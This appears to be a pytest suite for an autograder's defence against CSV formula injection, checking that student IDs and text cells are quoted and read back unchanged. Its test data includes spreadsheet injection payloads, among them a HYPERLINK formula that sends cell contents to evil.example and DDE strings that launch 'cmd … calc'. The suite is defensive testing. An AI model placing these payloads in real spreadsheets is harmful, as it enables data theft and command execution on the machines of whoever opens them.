"""CSV formula injection: a student id (a folder name the student chose) or any text cell that a
spreadsheet would run as a formula is written as text, and read back exactly as it was."""

import csv
import shutil

import pytest
from helpers import ROOT, dlcourse

from autograder import gradebook, results
from autograder.results import Row, quote_cell, unquote_cell

HOSTILE = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted by hand",
    "''-two quotes",
]
HARMLESS = ["alice", "", "'plain quote", "a=b", "o'neil", "'", "x\n=1"]
FORMULA = tuple("=+-@\t\r")
NUMBERS = set(results.NUMBERS)


@pytest.mark.parametrize("text", HOSTILE + HARMLESS)
def test_quoting_is_exactly_undone(text):
    assert unquote_cell(quote_cell(text)) == text


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_cells_start_with_a_quote(text):
    assert quote_cell(text) == "'" + text


@pytest.mark.parametrize("text", [t for t in HARMLESS if not t.startswith("'")])
def test_harmless_cells_are_unchanged(text):
    assert quote_cell(text) == text


def raw_cells(path):
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def assert_no_formula(path, numeric=()):
    for rec in raw_cells(path):
        for k, v in rec.items():
            if k in numeric:
                float(v)  # a number, negative ones included, is not text
            else:
                assert not v.startswith(FORMULA), (k, v)


def test_grades_csv_never_starts_a_text_cell_with_a_formula(tmp_path):
    path = tmp_path / "grades.csv"
    rows = [Row(sid, "hw0", score=-1.5, status="invalid", reason=f"-{sid}") for sid in HOSTILE + HARMLESS]
    results.write_rows(path, rows)
    assert_no_formula(path, numeric=NUMBERS)
    back = {r.student_id: r for r in results.read_rows(path)}
    assert sorted(back) == sorted(HOSTILE + HARMLESS)
    assert all(back[sid].reason == f"-{sid}" and back[sid].score == -1.5 for sid in back)


def test_regrading_into_the_same_csv_merges_by_the_real_id(tmp_path):
    path = tmp_path / "grades.csv"
    for score in (1.0, 2.0, 3.0):  # what grade_batch does on every run
        new = [Row(sid, "hw0", score=score) for sid in HOSTILE]
        results.write_rows(path, results.merge(results.read_rows(path), new))
    rows = results.read_rows(path)
    assert sorted(r.student_id for r in rows) == sorted(HOSTILE)  # no '=x next to =x
    assert {r.score for r in rows} == {3.0}
    assert_no_formula(path, numeric=NUMBERS)


def test_manual_grades_csv_is_neutralised_and_kept_rows_survive(tmp_path):
    path = tmp_path / "manual_grades.csv"
    item = {"question": "written_stability", "score": 1.5, "max_score": 2, "comment": "=1+1 @grader -ok"}
    gb = {sid: {"manual_items": [item]} for sid in HOSTILE}
    gradebook._write_manual_csv(path, "hw0", gb)
    gradebook._write_manual_csv(path, "hw1", gb)  # hw0's rows are read back and written again
    gradebook._write_manual_csv(path, "hw1", gb)
    assert_no_formula(path, numeric=("score", "max_score"))
    back = [{k: unquote_cell(v) for k, v in r.items()} for r in raw_cells(path)]
    assert len(back) == 2 * len(HOSTILE)
    assert sorted(r["student_id"] for r in back if r["assignment"] == "hw0") == sorted(HOSTILE)
    assert {r["comment"] for r in back} == {"=1+1 @grader -ok"}


@pytest.mark.slow
def test_dlcourse_grade_twice_keeps_one_row_per_hostile_id(tmp_path):
    """End to end through `dlcourse grade`. Every submission is invalid (a truncated notebook), so
    no student code runs and the run needs no sandbox."""
    subs = tmp_path / "subs"
    text = (ROOT / "autograder" / "submissions" / "perfect" / "hw0" / "hw0.ipynb").read_text()
    ids = ["=1+1", "@SUM(2)", "-3", "+cmd|' -C calc'!A0"]  # folder names: no slash
    for sid in ids:
        (subs / sid / "hw0").mkdir(parents=True)
        (subs / sid / "hw0" / "hw0.ipynb").write_text(text[:100])
    out = tmp_path / "out"
    for _ in range(2):
        proc = dlcourse("grade", "hw0", subs, "--out", out, "--quiet", "--db-url", "none", "--unsafe-no-sandbox")
        assert proc.returncode == 1, proc.stdout + proc.stderr  # finished; nothing gradable
    assert_no_formula(out / "grades.csv", numeric=NUMBERS)
    rows = results.read_rows(out / "grades.csv")
    assert sorted(r.student_id for r in rows) == sorted(ids)
    assert all(r.status == "invalid" and "not valid JSON" in r.reason for r in rows)
    shutil.rmtree(out)
